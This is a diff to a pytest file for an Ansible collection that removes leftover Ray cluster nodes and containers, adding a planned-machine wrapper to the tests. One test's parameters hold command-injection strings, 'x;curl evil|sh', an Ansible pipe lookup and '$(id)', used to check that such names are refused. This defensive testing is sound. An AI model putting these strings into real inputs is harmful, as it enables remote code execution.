@@ -14,7 +14,9 @@ from ansible_collections.argus.verl.plugins.module_utils.cluster.departure impor
     left_behind,
     outside_notes,
 )
+from ansible_collections.argus.verl.plugins.module_utils.cluster.machine import Machine
 from ansible_collections.argus.verl.plugins.module_utils.cluster.node_process import FoundProcess
+from ansible_collections.argus.verl.plugins.module_utils.cluster.planned_machine import PlannedMachine, ProbedMachine
 from samples import HEALTHY, PROCESS_HOST, container
 
 INVENTORY = ["ray-head", "worker-0", "worker-1"]
@@ -23,6 +25,13 @@ MACHINES = {
     "gpu-0": replace(HEALTHY, containers={"worker-0": container(), "registry": container(None)}),
     "gpu-1": replace(HEALTHY, containers={"worker-1": container(state="exited"), "worker-9": container()}),
 }
+
+
+def planned(machines: dict[str, Machine], cluster: str = "mvp") -> dict[str, PlannedMachine]:
+    return {
+        name: PlannedMachine.of(ProbedMachine(name, [], machine), "", "", cluster, INVENTORY)
+        for name, machine in machines.items()
+    }
 
 
 def ray_node(name: str, node_id: str = "1", state: str = "ALIVE", start: int = 0) -> dict[str, Any]:
@@ -34,7 +43,7 @@ def ray_node(name: str, node_id: str = "1", state: str = "ALIVE", start: int = 0
 
 
 def leave(node: str, *nodes: dict[str, Any], given: str = "", **machines: Any) -> Departure:
-    return departure(node, nodes, MACHINES | machines, "mvp", given, INVENTORY, "ctl")
+    return departure(node, nodes, planned(MACHINES | machines), given, INVENTORY, "ctl")
 
 
 def test_worker_of_the_inventory() -> None:
@@ -115,19 +124,21 @@ def test_jobs_that_hold_a_node() -> None:
 
 def test_nodes_that_a_removed_cluster_leaves_behind() -> None:
     nodes = [ray_node("worker-0"), ray_node("worker-9"), ray_node("worker-8"), ray_node("worker-7", state="DEAD")]
-    (found,) = left_behind(nodes, MACHINES, "mvp", INVENTORY)
+    (found,) = left_behind(nodes, planned(MACHINES).values(), "mvp", INVENTORY)
     assert (found.where, found.severity) == ("worker-8", WARNING)
     # Of a container with this name only if it is the cluster's: jobs name the nodes that they start.
     listed = "ps -aq --filter label=argus.verl.cluster=mvp --filter name=^worker-8$"
     assert found.todo == f"on its machine: docker rm -fv $(docker {listed})"
     podman = {name: replace(there, engine=replace(there.engine, name="podman")) for name, there in MACHINES.items()}
-    assert left_behind(nodes, podman, "mvp", INVENTORY)[0].todo.startswith("on its machine: podman rm ")
+    assert left_behind(nodes, planned(podman).values(), "mvp", INVENTORY)[0].todo.startswith(
+        "on its machine: podman rm "
+    )
 
 
 @pytest.mark.parametrize("name", ["x;curl evil|sh", "{{lookup('pipe','id')}}", "a b", "-x", "a\nb", "$(id)", ""])
 def test_no_command_has_a_name_that_a_shell_or_ansible_would_evaluate(name: str) -> None:
     for machines in (MACHINES, PROCESSES):
-        (found,) = left_behind([ray_node(name)], machines, "mvp", INVENTORY)
+        (found,) = left_behind([ray_node(name)], planned(machines).values(), "mvp", INVENTORY)
         assert found.todo == ODD_NAME
         assert "\n" not in found.where
     (note,) = outside_notes([name], INVENTORY)
@@ -137,12 +148,12 @@ def test_no_command_has_a_name_that_a_shell_or_ansible_would_evaluate(name: str)
 
 def test_containers_of_another_cluster_stay() -> None:
     machine = replace(HEALTHY, containers={"worker-0": container(), "worker-9": container()})
-    (found,) = left_behind([], {"gpu-0": machine}, "mpv", INVENTORY)
+    (found,) = left_behind([], planned({"gpu-0": machine}, "mpv").values(), "mpv", INVENTORY)
     assert (found.where, found.severity) == ("worker-0", WARNING)
     assert found.what == "is a container of cluster mvp on gpu-0, and not of cluster mpv: it is not removed"
     assert found.todo == "if this is its inventory, set cluster_name: mvp"
     bare = replace(machine, containers={"worker-0": replace(container(), labels={})})
-    (found,) = left_behind([], {"gpu-0": bare}, "mvp", INVENTORY)
+    (found,) = left_behind([], planned({"gpu-0": bare}).values(), "mvp", INVENTORY)
     assert found.what == "is a container of another owner on gpu-0, and not of cluster mvp: it is not removed"
     assert found.todo == ""
 
@@ -157,15 +168,17 @@ PROCESSES = {
 
 def test_process_of_the_inventory() -> None:
     nodes = [ray_node("worker-0", "x")]
-    found = departure("worker-0", nodes, PROCESSES, "mvp", "", INVENTORY, "ctl")
+    found = departure("worker-0", nodes, planned(PROCESSES), "", INVENTORY, "ctl")
     assert found == Departure("worker-0", "worker-0", "x", runs=True, last=False, in_inventory=True)
     alone = {**PROCESSES, "worker-0": replace(HEALTHY, process=replace(PROCESS_HOST, node=FoundProcess("stopped")))}
-    found = departure("worker-0", nodes, alone, "mvp", "", INVENTORY, "ctl")
+    found = departure("worker-0", nodes, planned(alone), "", INVENTORY, "ctl")
     assert (found.runs, found.last) == (False, True)
     # Of this one, the host has nothing.
-    assert departure("worker-1", [], PROCESSES, "mvp", "", INVENTORY, "ctl").machine == ""
+    assert departure("worker-1", [], planned(PROCESSES), "", INVENTORY, "ctl").machine == ""
 
 
 def test_process_that_stays() -> None:
-    (finding,) = left_behind([ray_node("worker-8"), ray_node("worker-9")], PROCESSES, "mvp", INVENTORY)
+    (finding,) = left_behind(
+        [ray_node("worker-8"), ray_node("worker-9")], planned(PROCESSES).values(), "mvp", INVENTORY
+    )
     assert (finding.where, finding.todo) == ("worker-8", "on its host: pkill -f nodes/worker-8/supervisor.py")
